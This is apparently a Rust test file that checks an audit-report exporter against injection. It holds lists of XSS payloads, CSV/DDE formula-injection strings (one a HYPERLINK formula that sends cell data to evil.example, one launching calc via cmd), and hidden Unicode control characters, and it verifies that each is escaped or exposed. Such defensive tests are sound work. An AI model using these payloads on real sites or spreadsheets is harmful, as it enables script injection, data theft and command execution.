//! Texts of agents and targets that try to be more than text: markup in the page, formulas in the tables, and what hides.

use super::*;
use crate::recorder::{EndReason, SessionEnd};

/// In every text that somebody else than the gateway has a say in.
fn evil(text: &str) -> Folder {
    let folder = Folder::new();
    let mut head = session::head(1);
    head.identity.display_name = Some(text.into());
    head.identity.actor = text.into();
    head.identity.blueprint = Some(text.into());
    head.identity.roles = [text.to_owned()].into();
    head.identity.credential_id = text.into();
    head.client_address = text.into();
    head.requested_role = Some(text.into());
    head.request = Some(text.into());
    for name in ["name", "version", "digest", "config_hash"] {
        let plugin = &mut head.plugins[0];
        *match name {
            "name" => &mut plugin.name,
            "version" => &mut plugin.version,
            "digest" => &mut plugin.digest,
            _ => &mut plugin.config_hash,
        } = text.to_owned();
    }
    let mut recording = folder.recorder().open(&head, session::now()).unwrap();
    session::query(&mut recording, 1, text);
    let refusal = json!({ "code": text, "message": text, "detail": text });
    let body = json!({
        "decision": "refuse", "plugin": text, "risk": 1, "refusal": refusal,
        "statements": [{ "class": text, "relations": [{ "schema": text, "name": text }] }],
        "findings": [{ "rule": text, "detail": text, "risk": 1 }],
    });
    recording.json(EventKind::Decision, 1, &body);
    recording.json(EventKind::Mask, 1, &json!({ "columns": [text] }));
    recording.json(EventKind::Fault, 1, &json!({ "plugin": text, "hook": text, "kind": text }));
    let terms = json!([{ "approvers": text, "needed": 1, "reason": text }]);
    recording.json(EventKind::Hold, 1, &json!({ "hold": text, "terms": terms }));
    let resolved = json!({ "hold": text, "outcome": text, "by": [text], "detail": text });
    recording.json(EventKind::HoldResolved, 1, &resolved);
    recording.json(EventKind::Error, 1, &json!({ "side": text, "sqlstate": text }));
    recording.json(EventKind::Result, 1, &json!({ "tag": text, "rows": 1, "masked": 1, "micros": 1 }));
    recording.json(EventKind::Warning, 0, &json!({ "what": text }));
    recording.commit().unwrap();
    let (ended, reason) = (session::now(), EndReason::Refused);
    recording.seal(&SessionEnd { ended, reason, code: Some(text.into()), detail: text.into() }).unwrap();
    checkpoint(&folder);
    folder
}

/// What a browser would take for markup, of all that is in a page.
fn tags(page: &str) -> Vec<&str> {
    let pieces = page.split('<').skip(1);
    pieces.map(|piece| piece.split(['>', ' ', '\n']).next().unwrap()).collect()
}

#[test]
fn no_text_becomes_markup_and_nothing_comes_from_elsewhere() {
    let payloads = [
        "<script>alert(1)</script>",
        "</pre></td></table><img src=x onerror=alert(1)>",
        "\"><svg onload=alert(1)>",
        "' onmouseover='alert(1)",
        "</style><script>alert(1)</script>",
        "&lt;script&gt;",
        "<!--",
        "]]><iframe src=//evil.example>",
        "javascript:alert(1)",
        "{{7*7}}",
    ];
    const KNOWN: [&str; 33] = [
        "!DOCTYPE", "html", "head", "meta", "title", "style", "body", "a", "header", "main", "section", "h1",
        "h2", "h3", "p", "ul", "li", "dl", "dt", "dd", "div", "table", "caption", "thead", "tbody", "tr",
        "th", "td", "span", "pre", "code", "b", "i",
    ];
    for payload in payloads {
        let folder = evil(payload);
        let page = made(&folder, &ALL).text("summary.html");
        for tag in tags(&page) {
            assert!(KNOWN.contains(&tag.trim_start_matches('/')), "<{tag}> in the page of {payload}");
        }
        let attributes: Vec<&str> = page.split('<').filter_map(|piece| piece.split('>').next()).collect();
        for attributes in attributes.iter().map(|tag| tag.to_ascii_lowercase()) {
            for bad in [" on", "src=", "javascript:", "http://", "https://", "//", "style="] {
                assert!(!attributes.contains(bad), "{bad} in <{attributes}> of {payload}");
            }
        }
        assert!(page.contains(&maud::html! { (payload) }.into_string()), "{payload} is not there as a text");
    }
}

/// The policy allows the one style sheet, by its digest, and nothing else.
#[test]
fn the_pages_own_policy_lets_nothing_run_and_nothing_be_fetched() {
    use base64::Engine;
    let folder = evil("x");
    let page = made(&folder, &ALL).text("summary.html");
    let (_, rest) = page.split_once("<style>").unwrap();
    let style = rest.split("</style>").next().unwrap();
    let digest = aws_lc_rs::digest::digest(&aws_lc_rs::digest::SHA256, style.as_bytes());
    let digest = base64::engine::general_purpose::STANDARD.encode(digest);
    let policy = format!(
        "content=\"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'\""
    );
    assert!(page.contains(&policy), "{page}");
    assert!(page.find("Content-Security-Policy").unwrap() < page.find("<style>").unwrap());
    assert!(page.starts_with("<!DOCTYPE html><html lang=\"en\">"));
    assert_eq!((style.matches("url(").count(), style.matches("@import").count()), (0, 0));
}

#[test]
fn what_hides_or_turns_text_is_shown() {
    let folder = evil("a\u{202e}b\u{200b}c\u{1b}[2Jd\u{0}");
    let made = made(&folder, &ALL);
    for name in ["summary.html", "operations.csv", "sessions.csv", "verification.txt", "README.txt"] {
        let text = made.text(name);
        let hidden = text
            .chars()
            .find(|c| (c.is_control() && !"\n\r\t".contains(*c)) || "\u{202e}\u{200b}".contains(*c));
        assert_eq!(hidden, None, "{name}");
    }
    assert!(made.text("summary.html").contains(">U+202E</span>"));
    assert!(made.text("operations.csv").contains("a<U+202E>b<U+200B>c<U+001B>[2Jd<U+0000>"));
}

#[test]
fn no_cell_of_a_table_is_a_formula_and_none_begins_in_the_middle_of_a_text() {
    for payload in [
        "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "＝1",
        "\",\"=1",
        "x\",=1,\"",
        "x\r\n=1,=1\r\n",
        "'=1",
    ] {
        let folder = evil(payload);
        let made = made(&folder, &ALL);
        for name in ["operations.csv", "sessions.csv"] {
            let rows = made.table(name);
            assert_eq!(rows.len(), 1, "a line of {name} was made by {payload:?}");
            for (column, cell) in &rows[0] {
                let first = cell.trim_start_matches(' ').chars().next();
                let formula = first.is_some_and(|first| "=+-@\t\r\n＝＋－＠".contains(first));
                assert!(!formula, "{column} of {name} is {cell:?}");
            }
        }
        // And it can be had back.
        let statement = made.table("operations.csv").remove(0).remove("statement").unwrap();
        assert_eq!(statement.strip_prefix('\'').unwrap_or(&statement), payload);
        // RFC 4180: lines end in CR LF.
        assert!(made.text("sessions.csv").ends_with("\r\n"));
    }
}
